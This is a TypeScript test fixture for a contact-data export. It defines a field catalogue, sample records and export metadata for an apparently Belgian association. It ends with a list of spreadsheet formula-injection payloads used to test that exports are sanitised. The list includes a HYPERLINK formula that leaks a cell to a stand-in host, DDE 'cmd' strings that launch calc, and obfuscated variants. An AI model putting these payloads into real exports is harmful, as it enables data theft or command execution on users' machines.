import '../../api/contacts/contact.entity.ts';
import { mergeCatalogue, type FieldRow } from '../../api/fields/catalogue.ts';
import type { Field } from '../../api/fields/field.ts';
import { declaredFields } from '../../api/fields/personal.ts';
import { type Column, columnsFor, type Exported } from '../../api/exchange/export/column.ts';
import type { About } from '../../api/exchange/export/about.ts';

const row = (key: string, more: Partial<FieldRow> = {}): FieldRow => ({
  key,
  custom: key.startsWith('custom.'),
  in_use: true,
  necessity: null,
  kind: null,
  category: null,
  sensitivity: 'ORDINARY',
  labels: {},
  choices: null,
  authorisation: null,
  ...more,
});

const catalogue: ReadonlyMap<string, Field> = mergeCatalogue([
  ...declaredFields.map(({ key }) => row(key)),
  row('custom.shoeSize', { kind: 'NUMBER', category: 'OTHER', labels: { en: 'Shoe size', nl: 'Schoenmaat' } }),
  row('custom.vip', { kind: 'BOOLEAN', category: 'OTHER', labels: { en: 'Guest of honour' } }),
  row('custom.since', { kind: 'DATE', category: 'OTHER', labels: { en: 'Since' } }),
]);

export const columns = (keys: readonly string[], language = 'en'): Column[] =>
  columnsFor(
    keys.map(key => catalogue.get(key)!),
    language,
  );

export const person = (number: number, values: Record<string, unknown>): Exported => ({
  id: `0190a0e0-0000-7000-8000-${String(number).padStart(12, '0')}`,
  ...values,
});

export const about: About = {
  job: '0190a0e0-0000-7000-8000-0000000000aa',
  organisation: 'De Linde vzw',
  purpose: { code: 'membership', label: 'Membership', basis: 'House rules' },
  author: 'Jan Mertens',
  recipient: { code: 'internal', name: 'De Linde', country: 'BE', transferTool: null },
  reason: 'general meeting',
  question: { filter: { city: { equals: 'Gent' } }, search: null, orderBy: null },
  fields: [{ key: 'givenName', label: 'Given name' }],
  withheld: [{ field: 'givenName', reason: 'ROLE_CONDITION', cells: 3 }],
  rows: 2,
  startedAt: '2026-11-25T10:00:00.000Z',
  finishedAt: '2026-11-25T10:00:01.000Z',
  doNotCallCheckedOn: null,
};

/** Cells that spreadsheets have taken for formulas, and what they would do. */
export const formulas = [
  '=1+1',
  '=HYPERLINK("http://example.org/?leak="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|...',
  '-2+3+cmd|...',
  '+1+1',
  '  =1+1',
  '\t=1+1',
  '\r\n=1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '＝1+1',
  '＋1',
  'a;=1+1',
  'a,=1+1',
  'a\t=1+1',
  'a|=1+1',
  'first line\n=1+1',
  '";=1+1;"',
  '","=1+1',
];
